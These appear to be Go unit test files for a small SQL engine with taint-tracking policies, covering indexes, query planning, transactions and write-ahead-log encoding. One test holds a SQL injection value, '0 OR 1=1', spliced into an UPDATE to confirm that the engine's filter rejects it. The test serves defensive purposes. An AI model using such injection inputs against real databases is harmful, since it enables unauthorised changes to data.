func TestIndexMaintainedByWrites(t *testing.T) {
	db := seedTable(t, true, 100)

	// UPDATE moves a row to a different bucket.
	if _, err := db.QueryRaw("UPDATE items SET id = 1000 WHERE id = 42"); err != nil {
		t.Fatal(err)
	}
	res, err := db.QueryRaw("SELECT name FROM items WHERE id = 1000")
	if err != nil {
		t.Fatal(err)
	}
	if res.Len() != 1 || res.Get(0, "name").Str.Raw() != "item-42" {
		t.Fatalf("update-by-key not visible through index: %d rows", res.Len())
	}
	if res, _ := db.QueryRaw("SELECT id FROM items WHERE id = 42"); res.Len() != 0 {
		t.Error("old index bucket still matches after UPDATE")
	}

	// DELETE shifts positions; indexes must be rebuilt.
	if _, err := db.QueryRaw("DELETE FROM items WHERE grp = 0"); err != nil {
		t.Fatal(err)
	}
	res, err = db.QueryRaw("SELECT name FROM items WHERE id = 99")
	if err != nil {
		t.Fatal(err)
	}
	if res.Len() != 1 || res.Get(0, "name").Str.Raw() != "item-99" {
		t.Fatalf("index stale after DELETE: %d rows", res.Len())
	}
	if res, _ := db.QueryRaw("SELECT id FROM items WHERE grp = 0"); res.Len() != 0 {
		t.Error("deleted rows still reachable through index")
	}

	// INSERT lands in the right bucket.
	db.MustExec("INSERT INTO items (id, name, grp) VALUES (555, 'new', 5)")
	res, err = db.QueryRaw("SELECT name FROM items WHERE id = 555")
	if err != nil {
		t.Fatal(err)
	}
	if res.Len() != 1 {
		t.Fatalf("inserted row not reachable through index: %d rows", res.Len())
	}
}

func TestIndexDDLErrors(t *testing.T) {
	db := openDB(t)
	db.MustExec("CREATE TABLE t (a TEXT)")
	db.MustExec("CREATE INDEX ON t (a)")
	if _, err := db.QueryRaw("CREATE INDEX ON t (a)"); err == nil {
		t.Error("duplicate CREATE INDEX must fail")
	}
	if _, err := db.QueryRaw("CREATE INDEX ON t (missing)"); err == nil {
		t.Error("CREATE INDEX on unknown column must fail")
	}
	if _, err := db.QueryRaw("CREATE INDEX ON missing (a)"); err == nil {
		t.Error("CREATE INDEX on unknown table must fail")
	}
	if _, err := db.QueryRaw("DROP INDEX ON t (a)"); err != nil {
		t.Errorf("DROP INDEX: %v", err)
	}
	if _, err := db.QueryRaw("DROP INDEX ON t (a)"); err == nil {
		t.Error("dropping a missing index must fail")
	}
	cols, err := db.Engine().Indexes("t")
	if err != nil {
		t.Fatal(err)
	}
	if len(cols) != 0 {
		t.Errorf("indexes remain after drop: %v", cols)
	}
}

// TestIndexOnPolicyColumnTable checks that indexes coexist with the
// filter's shadow policy columns: the index is declared on the data
// column, lookups go through the filter, and policies survive.
func TestIndexedLookupAttachesPolicies(t *testing.T) {
	db := openDB(t)
	db.MustExec("CREATE TABLE t (id INT, secret TEXT)")
	db.MustExec("CREATE INDEX ON t (id)")
	p := &passwordPolicy{Email: "ix@test"}
	q := core.Concat(
		core.NewString("INSERT INTO t (id, secret) VALUES (7, '"),
		core.NewStringPolicy("hunter2", p),
		core.NewString("')"),
	)
	if _, err := db.Query(q); err != nil {
		t.Fatal(err)
	}
	res, err := db.QueryRaw("SELECT secret FROM t WHERE id = 7")
	if err != nil {
		t.Fatal(err)
	}
	if res.Len() != 1 {
		t.Fatalf("got %d rows", res.Len())
	}
	cell := res.Get(0, "secret")
	if !cell.Str.IsTainted() {
		t.Fatal("policy lost through the indexed lookup path")
	}
}

// TestConcurrentReadersDuringIndexMaintainingWrites is the -race
// coverage for the engine's reader/writer split: parallel SELECTs (read
// lock, index probes) race against writers that insert, update, delete,
// and create/drop indexes (write lock, index maintenance). The test
// asserts nothing about interleaving — it exists to let the race
// detector see the engine under concurrent load.
func TestConcurrentReadersDuringIndexMaintainingWrites(t *testing.T) {
	db := seedTable(t, true, 300)
	const readers = 4
	const writers = 2
	const iters = 150

	var wg sync.WaitGroup
	for r := 0; r < readers; r++ {
		wg.Add(1)
		go func(r int) {
			defer wg.Done()
			for i := 0; i < iters; i++ {
				q := fmt.Sprintf("SELECT name FROM items WHERE id = %d", (i*7+r)%400)
				if _, err := db.QueryRaw(q); err != nil {
					t.Errorf("reader: %v", err)
					return
				}
				if _, err := db.QueryRaw(fmt.Sprintf("SELECT id FROM items WHERE grp = %d LIMIT 5", i%10)); err != nil {
					t.Errorf("reader: %v", err)
					return
				}
			}
		}(r)
	}
	for w := 0; w < writers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < iters; i++ {
				base := 1000 + w*iters + i
				if _, err := db.QueryRaw(fmt.Sprintf("INSERT INTO items (id, name, grp) VALUES (%d, 'w', %d)", base, i%10)); err != nil {
					t.Errorf("writer insert: %v", err)
					return
				}
				if _, err := db.QueryRaw(fmt.Sprintf("UPDATE items SET grp = %d WHERE id = %d", (i+1)%10, base)); err != nil {
					t.Errorf("writer update: %v", err)
					return
				}
				if i%10 == 9 {
					if _, err := db.QueryRaw(fmt.Sprintf("DELETE FROM items WHERE id = %d", base-5)); err != nil {
						t.Errorf("writer delete: %v", err)
						return
					}
				}
				if w == 0 && i%50 == 25 {
					// DDL churn: drop and recreate an index mid-flight
					// (only one writer, so the pair never collides with
					// itself).
					if _, err := db.QueryRaw("DROP INDEX ON items (grp)"); err != nil {
						t.Errorf("drop index: %v", err)
						return
					}
					if _, err := db.QueryRaw("CREATE INDEX ON items (grp)"); err != nil {
						t.Errorf("create index: %v", err)
						return
					}
				}
			}
		}(w)
	}
	wg.Wait()
}
