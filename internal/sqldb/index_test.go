package sqldb

import (
	"fmt"
	"sync"
	"testing"

	"resin/internal/core"
)

// seedTable builds a table with n rows and an optional index on id.
func seedTable(t testing.TB, indexed bool, n int) *DB {
	t.Helper()
	db := openDB2(t)
	db.MustExec("CREATE TABLE items (id INT, name TEXT, grp INT)")
	if indexed {
		db.MustExec("CREATE INDEX ON items (id)")
		db.MustExec("CREATE INDEX ON items (grp)")
	}
	for i := 0; i < n; i += 50 {
		q := "INSERT INTO items (id, name, grp) VALUES "
		for j := i; j < i+50 && j < n; j++ {
			if j > i {
				q += ", "
			}
			q += fmt.Sprintf("(%d, 'item-%d', %d)", j, j, j%10)
		}
		db.MustExec(q)
	}
	return db
}

func openDB2(t testing.TB) *DB {
	if tt, ok := t.(*testing.T); ok {
		return openDB(tt)
	}
	return Open(core.NewRuntime())
}

// TestIndexedSelectMatchesScan runs the same queries against an indexed
// and an unindexed copy of the table and requires identical results,
// including row order.
func TestIndexedSelectMatchesScan(t *testing.T) {
	const n = 200
	indexed := seedTable(t, true, n)
	scan := seedTable(t, false, n)

	queries := []string{
		"SELECT name FROM items WHERE id = 7",
		"SELECT name FROM items WHERE id = 199",
		"SELECT name FROM items WHERE id = 12345",           // no match
		"SELECT id, name FROM items WHERE grp = 3",          // multi-row bucket
		"SELECT id FROM items WHERE grp = 3 AND id = 13",    // two usable conjuncts
		"SELECT id FROM items WHERE 13 = id",                // reversed operands
		"SELECT id FROM items WHERE id = 5 OR id = 6",       // OR: scan fallback
		"SELECT id FROM items WHERE NOT id = 5 AND grp = 1", // NOT conjunct + index
		"SELECT id FROM items WHERE id = '17'",              // string literal vs int column
		"SELECT id FROM items WHERE grp = 2 ORDER BY id DESC LIMIT 3",
		"SELECT id FROM items WHERE id = NULL", // NULL equality matches nothing
	}
	for _, q := range queries {
		a, err := indexed.QueryRaw(q)
		if err != nil {
			t.Fatalf("%s (indexed): %v", q, err)
		}
		b, err := scan.QueryRaw(q)
		if err != nil {
			t.Fatalf("%s (scan): %v", q, err)
		}
		if a.Len() != b.Len() {
			t.Errorf("%s: indexed %d rows, scan %d rows", q, a.Len(), b.Len())
			continue
		}
		for i := range a.Rows {
			for j := range a.Rows[i] {
				av, bv := a.Rows[i][j].Text().Raw(), b.Rows[i][j].Text().Raw()
				if av != bv {
					t.Errorf("%s: row %d col %d: indexed %q, scan %q", q, i, j, av, bv)
				}
			}
		}
	}
}

func TestIndexMaintainedByWrites(t *testing.T) {
	db := seedTable(t, true, 100)

	// UPDATE moves a row to a different bucket.
	if _, err := db.QueryRaw("UPDATE items SET id = 1000 WHERE id = 42"); err != nil {
		t.Fatal(err)
	}
	res, err := db.QueryRaw("SELECT name FROM items WHERE id = 1000")
	if err != nil {
		t.Fatal(err)
	}
	if res.Len() != 1 || res.Get(0, "name").Str.Raw() != "item-42" {
		t.Fatalf("update-by-key not visible through index: %d rows", res.Len())
	}
	if res, _ := db.QueryRaw("SELECT id FROM items WHERE id = 42"); res.Len() != 0 {
		t.Error("old index bucket still matches after UPDATE")
	}

	// DELETE shifts positions; indexes must be rebuilt.
	if _, err := db.QueryRaw("DELETE FROM items WHERE grp = 0"); err != nil {
		t.Fatal(err)
	}
	res, err = db.QueryRaw("SELECT name FROM items WHERE id = 99")
	if err != nil {
		t.Fatal(err)
	}
	if res.Len() != 1 || res.Get(0, "name").Str.Raw() != "item-99" {
		t.Fatalf("index stale after DELETE: %d rows", res.Len())
	}
	if res, _ := db.QueryRaw("SELECT id FROM items WHERE grp = 0"); res.Len() != 0 {
		t.Error("deleted rows still reachable through index")
	}

	// INSERT lands in the right bucket.
	db.MustExec("INSERT INTO items (id, name, grp) VALUES (555, 'new', 5)")
	res, err = db.QueryRaw("SELECT name FROM items WHERE id = 555")
	if err != nil {
		t.Fatal(err)
	}
	if res.Len() != 1 {
		t.Fatalf("inserted row not reachable through index: %d rows", res.Len())
	}
}

func TestIndexDDLErrors(t *testing.T) {
	db := openDB(t)
	db.MustExec("CREATE TABLE t (a TEXT)")
	db.MustExec("CREATE INDEX ON t (a)")
	if _, err := db.QueryRaw("CREATE INDEX ON t (a)"); err == nil {
		t.Error("duplicate CREATE INDEX must fail")
	}
	if _, err := db.QueryRaw("CREATE INDEX ON t (missing)"); err == nil {
		t.Error("CREATE INDEX on unknown column must fail")
	}
	if _, err := db.QueryRaw("CREATE INDEX ON missing (a)"); err == nil {
		t.Error("CREATE INDEX on unknown table must fail")
	}
	if _, err := db.QueryRaw("DROP INDEX ON t (a)"); err != nil {
		t.Errorf("DROP INDEX: %v", err)
	}
	if _, err := db.QueryRaw("DROP INDEX ON t (a)"); err == nil {
		t.Error("dropping a missing index must fail")
	}
	cols, err := db.Engine().Indexes("t")
	if err != nil {
		t.Fatal(err)
	}
	if len(cols) != 0 {
		t.Errorf("indexes remain after drop: %v", cols)
	}
}

// TestIndexOnPolicyColumnTable checks that indexes coexist with the
// filter's shadow policy columns: the index is declared on the data
// column, lookups go through the filter, and policies survive.
func TestIndexedLookupAttachesPolicies(t *testing.T) {
	db := openDB(t)
	db.MustExec("CREATE TABLE t (id INT, secret TEXT)")
	db.MustExec("CREATE INDEX ON t (id)")
	p := &passwordPolicy{Email: "ix@test"}
	q := core.Concat(
		core.NewString("INSERT INTO t (id, secret) VALUES (7, '"),
		core.NewStringPolicy("hunter2", p),
		core.NewString("')"),
	)
	if _, err := db.Query(q); err != nil {
		t.Fatal(err)
	}
	res, err := db.QueryRaw("SELECT secret FROM t WHERE id = 7")
	if err != nil {
		t.Fatal(err)
	}
	if res.Len() != 1 {
		t.Fatalf("got %d rows", res.Len())
	}
	cell := res.Get(0, "secret")
	if !cell.Str.IsTainted() {
		t.Fatal("policy lost through the indexed lookup path")
	}
}

// TestConcurrentReadersDuringIndexMaintainingWrites is the -race
// coverage for the engine's reader/writer split: parallel SELECTs (read
// lock, index probes) race against writers that insert, update, delete,
// and create/drop indexes (write lock, index maintenance). The test
// asserts nothing about interleaving — it exists to let the race
// detector see the engine under concurrent load.
func TestConcurrentReadersDuringIndexMaintainingWrites(t *testing.T) {
	db := seedTable(t, true, 300)
	const readers = 4
	const writers = 2
	const iters = 150

	var wg sync.WaitGroup
	for r := 0; r < readers; r++ {
		wg.Add(1)
		go func(r int) {
			defer wg.Done()
			for i := 0; i < iters; i++ {
				q := fmt.Sprintf("SELECT name FROM items WHERE id = %d", (i*7+r)%400)
				if _, err := db.QueryRaw(q); err != nil {
					t.Errorf("reader: %v", err)
					return
				}
				if _, err := db.QueryRaw(fmt.Sprintf("SELECT id FROM items WHERE grp = %d LIMIT 5", i%10)); err != nil {
					t.Errorf("reader: %v", err)
					return
				}
			}
		}(r)
	}
	for w := 0; w < writers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < iters; i++ {
				base := 1000 + w*iters + i
				if _, err := db.QueryRaw(fmt.Sprintf("INSERT INTO items (id, name, grp) VALUES (%d, 'w', %d)", base, i%10)); err != nil {
					t.Errorf("writer insert: %v", err)
					return
				}
				if _, err := db.QueryRaw(fmt.Sprintf("UPDATE items SET grp = %d WHERE id = %d", (i+1)%10, base)); err != nil {
					t.Errorf("writer update: %v", err)
					return
				}
				if i%10 == 9 {
					if _, err := db.QueryRaw(fmt.Sprintf("DELETE FROM items WHERE id = %d", base-5)); err != nil {
						t.Errorf("writer delete: %v", err)
						return
					}
				}
				if w == 0 && i%50 == 25 {
					// DDL churn: drop and recreate an index mid-flight
					// (only one writer, so the pair never collides with
					// itself).
					if _, err := db.QueryRaw("DROP INDEX ON items (grp)"); err != nil {
						t.Errorf("drop index: %v", err)
						return
					}
					if _, err := db.QueryRaw("CREATE INDEX ON items (grp)"); err != nil {
						t.Errorf("create index: %v", err)
						return
					}
				}
			}
		}(w)
	}
	wg.Wait()
}

// TestRangeSelectMatchesScan extends the differential battery to the
// range/LIKE/ORDER BY shapes the ordered index serves.
func TestRangeSelectMatchesScan(t *testing.T) {
	const n = 200
	indexed := seedTable(t, true, n)
	scan := seedTable(t, false, n)
	for _, q := range []string{
		"SELECT id FROM items WHERE id < 5",
		"SELECT id FROM items WHERE id <= 5",
		"SELECT id FROM items WHERE id > 195",
		"SELECT id FROM items WHERE id >= 195",
		"SELECT id FROM items WHERE id >= 10 AND id < 20",
		"SELECT id FROM items WHERE 10 <= id AND 20 > id",           // mirrored operands
		"SELECT id FROM items WHERE id > 5 AND id > 50 AND id < 60", // tightening bounds
		"SELECT id FROM items WHERE id > 60 AND id < 50",            // empty range
		"SELECT name FROM items WHERE name LIKE 'item-1%'",
		"SELECT name FROM items WHERE name LIKE 'item-19_'",
		"SELECT id FROM items WHERE id >= 10 AND id < 20 ORDER BY id DESC",
		"SELECT id FROM items WHERE id >= 10 AND id < 20 ORDER BY id LIMIT 3",
		"SELECT id, grp FROM items WHERE grp = 3 ORDER BY id",
		"SELECT id FROM items ORDER BY id DESC LIMIT 5",
		"SELECT id, name FROM items ORDER BY grp LIMIT 25",
		"SELECT id FROM items WHERE id < '20'", // textual compare on INT column: scan both sides
	} {
		diffSelect(t, indexed, scan, q)
	}
}

// TestOrderByPushdownSkipsSort pins the pushdown with SortCount: a
// SELECT served in index order must not invoke the result sort, and
// shapes that cannot push down must still sort exactly once.
func TestOrderByPushdownSkipsSort(t *testing.T) {
	db := seedTable(t, true, 100)
	sorts := func(q string) uint64 {
		t.Helper()
		before := SortCount()
		if _, err := db.QueryRaw(q); err != nil {
			t.Fatalf("%s: %v", q, err)
		}
		return SortCount() - before
	}
	for _, q := range []string{
		"SELECT id FROM items ORDER BY id",
		"SELECT id FROM items ORDER BY id DESC",
		"SELECT id FROM items ORDER BY id LIMIT 3",
		"SELECT id FROM items WHERE id >= 10 AND id < 30 ORDER BY id",
		"SELECT id FROM items WHERE id >= 10 AND id < 30 ORDER BY id DESC",
		"SELECT id FROM items WHERE id = 7 ORDER BY id",
		"SELECT id FROM items WHERE id >= 0 AND id < 50 AND grp > 1 ORDER BY id", // probe and order share a column
		"SELECT name FROM items ORDER BY grp",                                    // full traversal of the grp index
		"SELECT id FROM items",                                                   // no ORDER BY at all
	} {
		if n := sorts(q); n != 0 {
			t.Errorf("%s: %d sorts, want pushdown (0)", q, n)
		}
	}
	for _, q := range []string{
		"SELECT id FROM items WHERE grp = 3 ORDER BY id", // probe on grp, order on id
		// Equality outranks the range on the ORDER BY column (a bucket
		// probe plus a small sort beats traversing the whole range), so
		// this sorts too — the analyzer's preference is cost, not order.
		"SELECT id FROM items WHERE grp = 3 AND id >= 0 ORDER BY id",
		"SELECT id FROM items ORDER BY name",              // unindexed ORDER BY column
		"SELECT id FROM items WHERE id = 5 ORDER BY name", // probe can't serve the order
	} {
		if n := sorts(q); n != 1 {
			t.Errorf("%s: %d sorts, want 1", q, n)
		}
	}
	db.MustExec("DROP INDEX ON items (id)")
	if n := sorts("SELECT id FROM items ORDER BY id"); n != 1 {
		t.Errorf("after DROP INDEX: %d sorts, want 1", n)
	}
}

// TestOrderedIndexNULLSemantics pins the NULL rules: range and LIKE
// predicates never match NULL, and ORDER BY pushdown emits the NULL
// bucket first for ASC and last for DESC — exactly where the scan
// path's valueLess sort puts it.
func TestOrderedIndexNULLSemantics(t *testing.T) {
	rt := core.NewRuntime()
	indexed, scan := Open(rt), Open(rt)
	for _, db := range []*DB{indexed, scan} {
		db.MustExec("CREATE TABLE n (id INT, name TEXT)")
	}
	indexed.MustExec("CREATE INDEX ON n (id)")
	indexed.MustExec("CREATE INDEX ON n (name)")
	for _, row := range []string{
		"(3, 'c')", "(NULL, 'nil1')", "(1, 'a')", "(NULL, NULL)", "(2, 'b')", "(10, NULL)",
	} {
		q := "INSERT INTO n (id, name) VALUES " + row
		indexed.MustExec(q)
		scan.MustExec(q)
	}
	for _, q := range []string{
		"SELECT id, name FROM n WHERE id < 100",       // NULL ids excluded
		"SELECT id, name FROM n WHERE id >= 0",        // ditto
		"SELECT id, name FROM n WHERE name LIKE 'n%'", // NULL names excluded
		"SELECT id, name FROM n ORDER BY id",
		"SELECT id, name FROM n ORDER BY id DESC",
		"SELECT id, name FROM n ORDER BY name",
		"SELECT id, name FROM n ORDER BY name DESC",
	} {
		diffSelect(t, indexed, scan, q)
	}
	// Explicit placement, not just scan agreement: NULLs first on ASC...
	res, err := indexed.QueryRaw("SELECT name FROM n ORDER BY id")
	if err != nil {
		t.Fatal(err)
	}
	if !res.Get(0, "name").Null && res.Get(0, "name").Str.Raw() != "nil1" {
		t.Errorf("ASC row 0 = %q, want a NULL-id row", res.Get(0, "name").Str.Raw())
	}
	if !res.Get(1, "name").Null && res.Get(1, "name").Str.Raw() != "nil1" {
		t.Errorf("ASC row 1 should still be a NULL-id row")
	}
	// ...and last on DESC.
	res, err = indexed.QueryRaw("SELECT id FROM n ORDER BY id DESC")
	if err != nil {
		t.Fatal(err)
	}
	last := res.Len() - 1
	if !res.Get(last, "id").Null || !res.Get(last-1, "id").Null {
		t.Error("DESC must emit the NULL bucket last")
	}
	// Range rows never include NULL ids.
	res, err = indexed.QueryRaw("SELECT id FROM n WHERE id >= 0 ORDER BY id")
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i < res.Len(); i++ {
		if res.Get(i, "id").Null {
			t.Error("range predicate matched a NULL cell")
		}
	}
}

// TestPredicateAnalyzerDecisions unit-tests analyzeProbe's usable/
// fallback decisions directly against the table, pinning the documented
// rules: prefix-free LIKE falls back, string bounds on INT columns fall
// back, bounds tighten, and OR/NOT spines contribute nothing.
func TestPredicateAnalyzerDecisions(t *testing.T) {
	db := seedTable(t, true, 20) // items: id INT + grp INT indexed, name TEXT not
	db.MustExec("CREATE INDEX ON items (name)")
	eng := db.Engine()
	eng.mu.RLock()
	tbl := eng.tables["items"]
	eng.mu.RUnlock()

	probeFor := func(where string) *indexProbe {
		t.Helper()
		stmt, err := Parse(core.NewString("SELECT id FROM items WHERE " + where))
		if err != nil {
			t.Fatalf("%s: %v", where, err)
		}
		return tbl.analyzeProbe(stmt.(*Select).Where)
	}

	for where, want := range map[string]bool{
		"id = 3":                     true,
		"id = NULL":                  false, // equality with NULL matches nothing; scan stays authoritative
		"id < 5":                     true,
		"5 > id":                     true,
		"id < '5'":                   false, // textual compare on INT column
		"name < 'm'":                 true,
		"name < 5":                   true, // digits compare textually on TEXT column
		"name LIKE 'item-1%'":        true,
		"name LIKE '%'":              false, // empty prefix
		"name LIKE ''":               false,
		"name LIKE 'it%em%'":         false, // wildcard inside prefix
		"name LIKE 'it_m%'":          false,
		"'item-1%' LIKE name":        false, // column as pattern
		"id LIKE '1%'":               false, // LIKE over INT column
		"id < 5 OR id > 10":          false,
		"NOT id < 5":                 false,
		"grp = 3 AND missingcol = 1": true, // usable conjunct; bad column caught by validateExpr
		"id > 5 AND name LIKE 'it%'": true,
	} {
		got := probeFor(where)
		if (got != nil) != want {
			t.Errorf("analyzeProbe(%q) usable = %v, want %v", where, got != nil, want)
		}
	}

	// Equality outranks ranges; bounds tighten to the narrowest span.
	p := probeFor("id > 2 AND id = 7 AND id < 100")
	if p == nil || p.eq == nil || p.eq.i != 7 {
		t.Fatalf("equality should win the probe: %+v", p)
	}
	p = probeFor("id > 2 AND id >= 5 AND id < 100 AND id <= 50")
	if p == nil || p.eq != nil {
		t.Fatal("expected a range probe")
	}
	if p.lo == nil || p.lo.i != 5 || !p.loIncl || p.hi == nil || p.hi.i != 50 || !p.hiIncl {
		t.Errorf("bounds did not tighten: lo=%v(%v) hi=%v(%v)", p.lo, p.loIncl, p.hi, p.hiIncl)
	}
	// Two-sided range on one column beats one-sided on an earlier one.
	p = probeFor("id > 2 AND grp >= 1 AND grp <= 3")
	if p == nil || p.ci != tbl.colIndex("grp") {
		t.Errorf("two-sided range should win: %+v", p)
	}
}
