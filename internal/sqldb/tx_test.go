package sqldb

import (
	"errors"
	"fmt"
	"sync"
	"testing"

	"resin/internal/core"
	"resin/internal/sanitize"
)

func txDB(t *testing.T) *DB {
	t.Helper()
	db := Open(core.NewRuntime())
	db.MustExec("CREATE TABLE accounts (owner TEXT, balance INT)")
	db.MustExec("INSERT INTO accounts (owner, balance) VALUES ('alice', 100), ('bob', 50)")
	return db
}

func balance(t *testing.T, q interface {
	QueryRaw(string, ...any) (*Result, error)
}, owner string) int64 {
	t.Helper()
	res, err := q.QueryRaw(fmt.Sprintf("SELECT balance FROM accounts WHERE owner = '%s'", owner))
	if err != nil {
		t.Fatal(err)
	}
	if res.Len() == 0 {
		return -1
	}
	return res.Get(0, "balance").Int.Value()
}

func TestTxCommitApplies(t *testing.T) {
	db := txDB(t)
	tx := db.Begin()
	if _, err := tx.QueryRaw("UPDATE accounts SET balance = 70 WHERE owner = 'alice'"); err != nil {
		t.Fatal(err)
	}
	// Inside the tx the write is visible; outside it is not.
	if got := balance(t, tx, "alice"); got != 70 {
		t.Errorf("tx view = %d", got)
	}
	if got := balance(t, db, "alice"); got != 100 {
		t.Errorf("base view during tx = %d", got)
	}
	if err := tx.Commit(); err != nil {
		t.Fatal(err)
	}
	if got := balance(t, db, "alice"); got != 70 {
		t.Errorf("after commit = %d", got)
	}
}

func TestTxRollbackDiscards(t *testing.T) {
	db := txDB(t)
	tx := db.Begin()
	tx.QueryRaw("DELETE FROM accounts WHERE owner = 'bob'")
	if err := tx.Rollback(); err != nil {
		t.Fatal(err)
	}
	if got := balance(t, db, "bob"); got != 50 {
		t.Errorf("rollback leaked: %d", got)
	}
}

func TestIntegrityAssertionVetoesCommit(t *testing.T) {
	db := txDB(t)
	db.AddIntegrityAssertion("no-negative-balances", func(v *View) error {
		res, err := v.QueryRaw("SELECT owner FROM accounts WHERE balance < 0")
		if err != nil {
			return err
		}
		if res.Len() > 0 {
			return fmt.Errorf("%s would go negative", res.Get(0, "owner").Str.Raw())
		}
		return nil
	})

	// A transaction that overdraws is vetoed at commit.
	tx := db.Begin()
	if _, err := tx.QueryRaw("UPDATE accounts SET balance = -10 WHERE owner = 'bob'"); err != nil {
		t.Fatal(err)
	}
	err := tx.Commit()
	if err == nil {
		t.Fatal("overdraw must be vetoed")
	}
	var ie *IntegrityError
	if !errors.As(err, &ie) || ie.Assertion != "no-negative-balances" {
		t.Fatalf("error = %v", err)
	}
	if got := balance(t, db, "bob"); got != 50 {
		t.Errorf("vetoed commit mutated the database: %d", got)
	}

	// A valid transaction still commits.
	tx2 := db.Begin()
	tx2.QueryRaw("UPDATE accounts SET balance = 0 WHERE owner = 'bob'")
	if err := tx2.Commit(); err != nil {
		t.Fatal(err)
	}
	if got := balance(t, db, "bob"); got != 0 {
		t.Errorf("valid commit lost: %d", got)
	}
}

func TestTxDoneSemantics(t *testing.T) {
	db := txDB(t)
	tx := db.Begin()
	tx.Commit()
	if err := tx.Commit(); !errors.Is(err, ErrTxDone) {
		t.Errorf("double commit: %v", err)
	}
	if err := tx.Rollback(); !errors.Is(err, ErrTxDone) {
		t.Errorf("rollback after commit: %v", err)
	}
	if _, err := tx.QueryRaw("SELECT * FROM accounts"); !errors.Is(err, ErrTxDone) {
		t.Errorf("query after commit: %v", err)
	}
	// A vetoing commit also finishes the transaction.
	db.AddIntegrityAssertion("always-no", func(v *View) error { return errors.New("no") })
	tx2 := db.Begin()
	if err := tx2.Commit(); err == nil {
		t.Fatal("veto expected")
	}
	if err := tx2.Commit(); !errors.Is(err, ErrTxDone) {
		t.Errorf("commit after veto: %v", err)
	}
}

func TestTxFiltersStillApply(t *testing.T) {
	db := txDB(t)
	db.Filter().RejectTaintedStructure(true)
	tx := db.Begin()
	evil := sanitize.Taint(core.NewString("0 OR 1=1"), "form")
	q := core.Concat(core.NewString("UPDATE accounts SET balance = 0 WHERE balance = "), evil)
	if _, err := tx.Query(q); err == nil {
		t.Fatal("injection assertions must hold inside transactions")
	}
}

func TestTxPolicyPersistence(t *testing.T) {
	db := Open(core.NewRuntime())
	db.MustExec("CREATE TABLE t (a TEXT)")
	p := &passwordPolicy{Email: "tx@x"}
	tx := db.Begin()
	q := core.Concat(core.NewString("INSERT INTO t (a) VALUES ("),
		sanitize.SQLQuote(core.NewStringPolicy("v", p)), core.NewString(")"))
	if _, err := tx.Query(q); err != nil {
		t.Fatal(err)
	}
	if err := tx.Commit(); err != nil {
		t.Fatal(err)
	}
	res, err := db.QueryRaw("SELECT a FROM t")
	if err != nil {
		t.Fatal(err)
	}
	if !res.Get(0, "a").Str.IsTainted() {
		t.Error("policies must persist through transactional writes")
	}
}

func TestTxConcurrentCommitsSerialized(t *testing.T) {
	db := txDB(t)
	var wg sync.WaitGroup
	for i := 0; i < 8; i++ {
		wg.Add(1)
		go func(n int) {
			defer wg.Done()
			tx := db.Begin()
			tx.QueryRaw(fmt.Sprintf("UPDATE accounts SET balance = %d WHERE owner = 'alice'", n))
			tx.Commit()
		}(i)
	}
	wg.Wait()
	got := balance(t, db, "alice")
	if got < 0 || got > 7 {
		t.Errorf("final balance %d not from any committed tx", got)
	}
}

func TestEngineCloneIsDeep(t *testing.T) {
	e := NewEngine()
	stmt, _ := Parse(core.NewString("CREATE TABLE t (a TEXT)"))
	e.ExecuteRaw(stmt)
	stmt, _ = Parse(core.NewString("INSERT INTO t (a) VALUES ('x')"))
	e.ExecuteRaw(stmt)
	c := e.Clone()
	stmt, _ = Parse(core.NewString("UPDATE t SET a = 'changed'"))
	c.ExecuteRaw(stmt)
	raw, _, _ := func() (*rawResult, int, error) {
		s, _ := Parse(core.NewString("SELECT a FROM t"))
		return e.ExecuteRaw(s)
	}()
	if raw.rows[0][0].s != "x" {
		t.Error("clone mutation leaked into the original")
	}
}
