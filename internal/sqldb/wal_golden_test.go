package sqldb

import (
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"testing"

	"resin/internal/core"
)

var updateGolden = flag.Bool("update", false, "rewrite golden files")

// TestWALGoldenEncoding pins the WAL v1 byte format — magic and version
// byte, record framing (length + CRC), the statement/begin/commit type
// bytes, and the shadow-policy annotation serialization inside logged
// statements — against testdata/wal_v1.golden. An accidental format
// change fails here loudly instead of silently orphaning old logs.
// Regenerate deliberately with:
//
//	go test ./internal/sqldb -run TestWALGoldenEncoding -update
//
// and bump walVersion if old logs can no longer replay.
func TestWALGoldenEncoding(t *testing.T) {
	path := filepath.Join(t.TempDir(), "golden.wal")
	rt := core.NewRuntime()
	db := openWALDB(t, rt, path)

	// The docs/SQL.md §3 worked example, persisted: a CREATE rewritten
	// with policy columns, an INSERT carrying a serialized annotation, a
	// rejected-free UPDATE inside a committed transaction (begin/commit
	// markers), and a standalone DELETE.
	db.MustExec("CREATE TABLE users (email TEXT, password TEXT)")
	pw := core.NewStringPolicy("s3cretpw", &passwordPolicy{Email: "u@example.org"})
	if _, err := db.QueryRaw("INSERT INTO users (email, password) VALUES (?, ?)",
		"u@example.org", pw); err != nil {
		t.Fatal(err)
	}
	tx := db.Begin()
	if _, err := tx.QueryRaw("UPDATE users SET password = ? WHERE email = ?",
		core.NewStringPolicy("n3wpw", &passwordPolicy{Email: "u@example.org"}), "u@example.org"); err != nil {
		t.Fatal(err)
	}
	if err := tx.Commit(); err != nil {
		t.Fatal(err)
	}
	if _, err := db.QueryRaw("DELETE FROM users WHERE email = ?", "nobody@example.org"); err != nil {
		t.Fatal(err)
	}
	if err := db.Close(); err != nil {
		t.Fatal(err)
	}

	got, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	goldenPath := filepath.Join("testdata", "wal_v1.golden")
	if *updateGolden {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(goldenPath, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(goldenPath)
	if err != nil {
		t.Fatalf("%v (regenerate with -update)", err)
	}
	if string(got) != string(want) {
		t.Fatalf("WAL encoding changed (%d bytes, want %d).\ngot:  %s\nwant: %s\n"+
			"If this is deliberate, bump walVersion, handle the old format in replayWAL, and regenerate with -update.",
			len(got), len(want), hexPreview(got), hexPreview(want))
	}

	// The golden bytes must also replay: byte-stability without replay
	// compatibility would pin the wrong contract.
	replayPath := filepath.Join(t.TempDir(), "replay.wal")
	if err := os.WriteFile(replayPath, want, 0o644); err != nil {
		t.Fatal(err)
	}
	db2 := openWALDB(t, rt, replayPath)
	defer db2.Close()
	res, err := db2.QueryRaw("SELECT password FROM users WHERE email = ?", "u@example.org")
	if err != nil {
